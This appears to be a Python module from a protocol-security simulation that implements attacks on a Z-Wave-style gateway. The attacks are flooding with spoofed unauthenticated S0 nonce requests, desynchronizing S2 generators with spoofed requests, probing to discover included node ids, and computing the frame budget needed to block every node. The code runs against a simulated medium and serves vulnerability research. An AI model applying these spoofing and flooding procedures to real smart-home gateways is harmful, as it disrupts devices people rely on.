"""Attack procedures: spoofed-request flooding, generator desynchronization,
included-id discovery, and packet-budget arithmetic.

Nonce requests carry no authentication, so nothing stops a transmitter from
putting any source id on them. The flood periodically requests a nonce
while impersonating an id the gateway still considers included; the gateway
answers, starts its mandatory timer, and waits for an encapsulation that
never comes. The desynchronization pass sends one spoofed successor-class
nonce request per id, which makes the gateway reseed its per-id generator
while the real device keeps its old state.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Iterable

from . import wire
from .medium import Medium
from .sniff import TraceRecord

PROBE_GAPS = (1.0, 1.0, 3.0)
DISCOVERY_ID_RANGE = range(2, wire.MAX_NODE_ID + 1)
MAX_SPOOFABLE_IDS = wire.MAX_NODE_ID - 1  # everything but the gateway itself


def spoofed_s0_nonce_get(home: int, spoofed_src: int,
                         dst: int = wire.CONTROLLER_NODE_ID) -> wire.MacFrame:
    """Nonce request that claims to come from ``spoofed_src``.

    Indistinguishable, to the receiver, from the real node's request.
    """
    return wire.MacFrame(
        home=home, src=spoofed_src, dst=dst,
        payload=wire.S0NonceGet(), seqn=0xFF, ack_requested=True,
    )


def spoofed_s2_nonce_get(home: int, spoofed_src: int,
                         dst: int = wire.CONTROLLER_NODE_ID) -> wire.MacFrame:
    """Successor-class nonce request with a spoofed source id."""
    return wire.MacFrame(
        home=home, src=spoofed_src, dst=dst,
        payload=wire.S2NonceGet(seqn=1), seqn=0x0F, ack_requested=True,
    )


@dataclass
class Attacker:
    """Transmit-only participant; it never holds keys, so it can never
    produce a verifying encapsulation and never answers a nonce report."""

    medium: Medium
    home: int
    send_times: list[float] = field(default_factory=list)

    @property
    def frames_sent(self) -> int:
        return len(self.send_times)

    def send(self, frame: wire.MacFrame) -> None:
        self.send_times.append(self.medium.now)
        self.medium.transmit(frame, attacker=True)

    def send_s0_nonce_get(self, spoofed_src: int) -> None:
        self.send(spoofed_s0_nonce_get(self.home, spoofed_src))

    def send_s2_nonce_get(self, spoofed_src: int) -> None:
        self.send(spoofed_s2_nonce_get(self.home, spoofed_src))


def schedule_desync(attacker: Attacker, at: float, node_range: Iterable[int]) -> None:
    """One spoofed successor-class nonce request per id, back to back."""
    ids = list(node_range)

    def burst():
        for node_id in ids:
            attacker.send_s2_nonce_get(node_id)

    attacker.medium.schedule(at, burst)


def schedule_flood(
    attacker: Attacker,
    spoofed_src: int,
    start: float = 0.0,
    duration: float = 100.0,
    interval: float = 1.0,
    count: int | None = None,
    desync_range: Iterable[int] | None = None,
    desync_after_iteration: int = 1,
) -> int:
    """Periodic spoofed nonce requests; optional desync burst after the
    given iteration. Returns the number of scheduled requests."""
    if count is None:
        count = int(duration / interval) if interval > 0 else 0
    for k in range(count):
        at = start + k * interval
        attacker.medium.schedule(at, lambda s=spoofed_src: attacker.send_s0_nonce_get(s))
    if desync_range is not None and count > desync_after_iteration:
        schedule_desync(
            attacker, start + desync_after_iteration * interval, desync_range
        )
    return count


def schedule_flood_all(
    attacker: Attacker,
    ids: Iterable[int],
    start: float = 0.0,
    duration: float = 100.0,
    interval: float = 1.0,
) -> int:
    """Fallback when no failed id is known: round-robin over every
    included id instead of one target."""
    targets = list(ids)
    if not targets:
        return 0
    count = int(duration / interval) if interval > 0 else 0
    for k in range(count):
        target = targets[k % len(targets)]
        attacker.medium.schedule(
            start + k * interval, lambda t=target: attacker.send_s0_nonce_get(t)
        )
    return count


@dataclass(frozen=True)
class ProbePlan:
    windows: dict[int, tuple[float, float]]  # id -> observation window
    end: float


def schedule_probes(
    attacker: Attacker,
    ids: Iterable[int] = DISCOVERY_ID_RANGE,
    start: float = 0.0,
    repeats: int = 3,
    gaps: tuple[float, ...] = PROBE_GAPS,
) -> ProbePlan:
    """Spoof each candidate id a few times; repeats paper over frames the
    transmit chain corrupts. Ids the gateway answers for are included."""
    windows: dict[int, tuple[float, float]] = {}
    slot = sum(gaps)
    at = start
    for node_id in ids:
        for k in range(repeats):
            attacker.medium.schedule(
                at + sum(gaps[:k]), lambda n=node_id: attacker.send_s0_nonce_get(n)
            )
        windows[node_id] = (at, at + slot)
        at += slot
    return ProbePlan(windows=windows, end=at)


def classify_responses(records: list[TraceRecord],
                       plan: ProbePlan) -> dict[int, str]:
    """Mark an id responding iff the gateway addressed it an ack or a nonce
    report inside its probe window."""
    result = {node_id: "silent" for node_id in plan.windows}
    for rec in records:
        if rec.src != wire.CONTROLLER_NODE_ID:
            continue
        if rec.command not in ("MacAck", "S0NonceReport"):
            continue
        window = plan.windows.get(rec.dst)
        if window and window[0] <= rec.time < window[1]:
            result[rec.dst] = "responding"
    return result


def find_online_nodes(
    medium: Medium,
    attacker: Attacker,
    ids: Iterable[int] = DISCOVERY_ID_RANGE,
    start: float = 0.0,
    repeats: int = 3,
    gaps: tuple[float, ...] = PROBE_GAPS,
) -> dict[int, str]:
    """Run the probe sweep to completion and classify every candidate."""
    plan = schedule_probes(attacker, ids, start=start, repeats=repeats, gaps=gaps)
    medium.run_until(plan.end + 1.0)
    return classify_responses(medium.trace.records, plan)


def observed_traffic_sources(records: list[TraceRecord]) -> set[int]:
    """Ids seen originating their own (non-spoofed) transmissions."""
    return {
        rec.src
        for rec in records
        if rec.src != wire.CONTROLLER_NODE_ID and "spoofed" not in rec.note
    }


def identify_failed(responding: set[int], observed_traffic: set[int]) -> set[int]:
    """Included ids nobody transmits from: the spoofing candidates.

    Empty when every responder shows its own traffic; the fallback then is
    to flood all included ids (schedule_flood_all).
    """
    return set(responding) - set(observed_traffic)


def worst_case_budget(included_count: int, timeout: float) -> tuple[int, float]:
    """Frames per period needed to block when targeting every included id.

    Two requests per id per minimum timer period; the period is the
    configured timeout but never below the 3-second floor.
    """
    if included_count < 0 or included_count > MAX_SPOOFABLE_IDS:
        raise ValueError(
            f"included count must be within 0..{MAX_SPOOFABLE_IDS}, got {included_count}"
        )
    if included_count == 0:
        return 0, max(timeout, 3.0)
    return 2 * included_count, max(timeout, 3.0)
